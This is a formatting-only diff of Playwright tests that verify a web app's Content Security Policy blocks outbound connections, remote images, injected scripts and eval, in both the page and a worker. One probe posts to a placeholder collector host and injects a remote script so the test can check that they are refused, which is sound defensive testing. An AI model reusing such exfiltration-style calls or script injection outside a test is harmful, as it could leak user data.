@@ -8,11 +8,14 @@ import { expect, test } from './guard';
  * A refused load prints a console error, so the guard's "no console error" also means "no policy violation";
  * the page additionally counts `securitypolicyviolation` events from its first line.
  */
-const recordViolations = (page: Page) => page.addInitScript(() => {
-  const w = window as unknown as { __violations: string[] };
-  w.__violations = [];
-  document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
-});
+const recordViolations = (page: Page) =>
+  page.addInitScript(() => {
+    const w = window as unknown as { __violations: string[] };
+    w.__violations = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
+    );
+  });
 const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
 
 /**
@@ -22,12 +25,19 @@ const violations = (page: Page) => page.evaluate(() => (window as unknown as { _
  */
 function bigWorkbook(rows = 20_000): Buffer {
   const sheet: XCell[][] = [['case_id', 'ward', 'age', 'infected']];
-  for (let i = 0; i < rows; i++) sheet.push([i + 1, `W${1 + (i % 5)}`, 40 + ((i * 7919) % 50), i % 9 === 0 ? 'yes' : 'no']);
+  for (let i = 0; i < rows; i++)
+    sheet.push([i + 1, `W${1 + (i % 5)}`, 40 + ((i * 7919) % 50), i % 9 === 0 ? 'yes' : 'no']);
   return Buffer.from(makeXlsx([{ name: 'Cases', rows: sheet }], true));
 }
 
 function directives(policy: string): Map<string, string[]> {
-  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
+  return new Map(
+    policy
+      .split(';')
+      .map((d) => d.trim().split(/\s+/))
+      .filter((d) => d[0])
+      .map(([k, ...v]) => [k, v]),
+  );
 }
 
 test('the page carries a policy that allows no connection, no eval and no inline script', async ({ page }) => {
@@ -44,7 +54,9 @@ test('the page carries a policy that allows no connection, no eval and no inline
   expect(policy).not.toMatch(/https?:|\*/);
 });
 
-test('the whole demo flow, bootstrap validation and the PDF run under the policy without a single violation', async ({ page }) => {
+test('the whole demo flow, bootstrap validation and the PDF run under the policy without a single violation', async ({
+  page,
+}) => {
   await recordViolations(page);
   await page.goto('/');
   await page.getByRole('button', { name: /Surgical-site infections/ }).click();
@@ -72,24 +84,42 @@ test('the whole demo flow, bootstrap validation and the PDF run under the policy
   expect(await violations(page)).toEqual([]);
 });
 
-test('a large Excel workbook imports under the policy (its unzipper starts a blob: worker inside the engine worker)', async ({ page }) => {
+test('a large Excel workbook imports under the policy (its unzipper starts a blob: worker inside the engine worker)', async ({
+  page,
+}) => {
   await recordViolations(page);
   await page.goto('/');
-  await page.getByTestId('file-input').setInputFiles({ name: 'cases.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: bigWorkbook() });
+  await page
+    .getByTestId('file-input')
+    .setInputFiles({
+      name: 'cases.xlsx',
+      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      buffer: bigWorkbook(),
+    });
   await expect(page.getByText('20,000 rows × 4 columns')).toBeVisible({ timeout: 60_000 });
   expect(await violations(page)).toEqual([]);
 });
 
 plain('the policy refuses a connection, a remote image, a remote or injected script and eval', async ({ page }) => {
   const outside: string[] = [];
-  page.on('response', (r) => { if (!r.url().startsWith('http://127.0.0.1')) outside.push(r.url()); });
+  page.on('response', (r) => {
+    if (!r.url().startsWith('http://127.0.0.1')) outside.push(r.url());
+  });
   await recordViolations(page);
   await page.goto('/');
   await expect(page.getByRole('button', { name: /Surgical-site infections/ })).toBeVisible();
   const probe = await page.evaluate(async () => {
     let fetchFailed = false;
-    try { await fetch('https://collector.example.com/upload', { method: 'POST', body: 'x' }); } catch { fetchFailed = true; }
-    try { await fetch('/index.html'); } catch { /* same origin is refused as well */ }
+    try {
+      await fetch('https://collector.example.com/upload', { method: 'POST', body: 'x' });
+    } catch {
+      fetchFailed = true;
+    }
+    try {
+      await fetch('/index.html');
+    } catch {
+      /* same origin is refused as well */
+    }
     new Image().src = 'https://images.example.com/pixel.png';
     const remote = document.createElement('script');
     remote.src = 'https://cdn.example.com/lib.js';
@@ -106,7 +136,14 @@ plain('the policy refuses a connection, a remote image, a remote or injected scr
   expect(probe).toEqual({ fetchFailed: true, inlineRan: false, evalRan: false });
   // Unique by directive and address: the preview also sends the policy as a header, and each policy reports.
   const refused = [...new Set(await violations(page))].map((v) => v.split(' ')[0]).sort();
-  expect(refused).toEqual(['connect-src', 'connect-src', 'img-src', 'script-src', 'script-src-elem', 'script-src-elem']);
+  expect(refused).toEqual([
+    'connect-src',
+    'connect-src',
+    'img-src',
+    'script-src',
+    'script-src-elem',
+    'script-src-elem',
+  ]);
   expect(outside).toEqual([]);
 });
 
@@ -114,7 +151,12 @@ plain('the engine worker runs under the policy too: it can neither connect nor e
   await page.goto('/');
   await expect.poll(() => page.workers().length).toBeGreaterThanOrEqual(1);
   const probe = await page.workers()[0].evaluate(probeWorker);
-  expect(probe).toEqual({ sameOrigin: 'refused', blob: 'refused', evalRan: false, refused: ['connect-src', 'script-src'] });
+  expect(probe).toEqual({
+    sameOrigin: 'refused',
+    blob: 'refused',
+    evalRan: false,
+    refused: ['connect-src', 'script-src'],
+  });
 });
 
 /**
@@ -123,11 +165,22 @@ plain('the engine worker runs under the policy too: it can neither connect nor e
  */
 async function probeWorker() {
   const refused: string[] = [];
-  self.addEventListener('securitypolicyviolation', (e) => refused.push((e as SecurityPolicyViolationEvent).effectiveDirective));
-  const attempt = (url: string) => fetch(url).then(() => 'fetched', () => 'refused');
+  self.addEventListener('securitypolicyviolation', (e) =>
+    refused.push((e as SecurityPolicyViolationEvent).effectiveDirective),
+  );
+  const attempt = (url: string) =>
+    fetch(url).then(
+      () => 'fetched',
+      () => 'refused',
+    );
   const sameOrigin = location.protocol.startsWith('http') ? await attempt('/index.html') : 'refused';
   const blob = await attempt(URL.createObjectURL(new Blob(['x'])));
   (setTimeout as (code: string, ms: number) => number)('self.__evalRan = true', 0);
   await new Promise((r) => setTimeout(r, 300));
-  return { sameOrigin, blob, evalRan: (self as unknown as { __evalRan?: boolean }).__evalRan === true, refused: [...new Set(refused)].sort() };
+  return {
+    sameOrigin,
+    blob,
+    evalRan: (self as unknown as { __evalRan?: boolean }).__evalRan === true,
+    refused: [...new Set(refused)].sort(),
+  };
 }
